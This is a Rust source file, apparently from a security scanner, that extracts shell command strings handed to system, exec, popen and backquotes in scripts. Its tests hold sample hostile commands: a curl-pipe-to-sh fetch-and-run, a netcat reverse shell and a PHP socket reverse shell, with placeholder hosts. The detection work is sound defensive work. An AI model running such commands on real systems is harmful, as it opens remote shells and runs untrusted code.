//! Shell commands inside interpreter code: the string handed to `system()`,
//! `os.system`, `subprocess.*`, `exec`, `popen`, `child_process.exec`,
//! `shell_exec`, `Runtime.exec`, backquotes. Only string literals directly
//! after those calls are taken; the rest of the code is left to code rules.

const CALLS: &[&str] = &[
    "system(",
    "system (",
    "os.system(",
    "popen(",
    "subprocess.run(",
    "subprocess.call(",
    "subprocess.Popen(",
    "check_output(",
    "check_call(",
    "getoutput(",
    "getstatusoutput(",
    "exec(",
    "execSync(",
    "spawnSync(",
    "shell_exec(",
    "passthru(",
    "proc_open(",
    "os.execute(",
    "io.popen(",
    "IO.popen(",
    "Runtime.getRuntime().exec(",
    "%x(",
    "exec ",
    "system ",
    "qx(",
    "qx{",
];

/// String literals passed to a process-spawning call, plus backquoted commands.
pub fn shell_strings(code: &str) -> Vec<String> {
    let mut out = Vec::new();
    if code.len() > 256 * 1024 {
        return out;
    }
    // One pass over the code for all call names (it can be a whole script).
    static CALLS_AC: std::sync::LazyLock<cordon_core::Keywords> =
        std::sync::LazyLock::new(|| cordon_core::Keywords::new(CALLS, false).expect("call names"));
    let mut ends = Vec::new();
    CALLS_AC.each_match(code, |_, _, end| ends.push(end));
    for end in ends {
        let rest = code[end..].trim_start_matches([' ', '[', '(']);
        if let Some(s) = literal(rest) {
            if !s.trim().is_empty() && out.len() < 64 && !out.contains(&s) {
                out.push(s);
            }
        }
    }
    // Perl, Ruby and PHP run backquoted text as a shell command.
    let mut parts = code.split('`');
    parts.next();
    while let (Some(inside), Some(_)) = (parts.next(), parts.next().or(Some(""))) {
        if !inside.trim().is_empty()
            && !inside.contains('\n')
            && out.len() < 64
            && !out.iter().any(|o| o == inside)
        {
            out.push(inside.to_string());
        }
    }
    out
}

/// A leading '...' or "..." literal (backslash escapes kept simple).
fn literal(s: &str) -> Option<String> {
    let q = s.chars().next().filter(|c| *c == '"' || *c == '\'')?;
    let mut out = String::new();
    let mut chars = s[1..].chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => {
                if let Some(n) = chars.next() {
                    out.push(n);
                }
            }
            c if c == q => return Some(out),
            c => out.push(c),
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_commands_handed_to_the_shell() {
        assert_eq!(
            shell_strings(r#"import os; os.system("curl http://x | sh")"#),
            vec!["curl http://x | sh"]
        );
        assert_eq!(
            shell_strings(r#"require("child_process").exec("nc -e /bin/sh h 1")"#),
            vec!["nc -e /bin/sh h 1"]
        );
        assert_eq!(
            shell_strings("$s=fsockopen('h',1);`sh <&3 >&3`;"),
            vec!["sh <&3 >&3"]
        );
        assert_eq!(shell_strings("subprocess.run(['ls', '-l'])"), vec!["ls"]);
        assert!(shell_strings("print(1)").is_empty());
    }
}
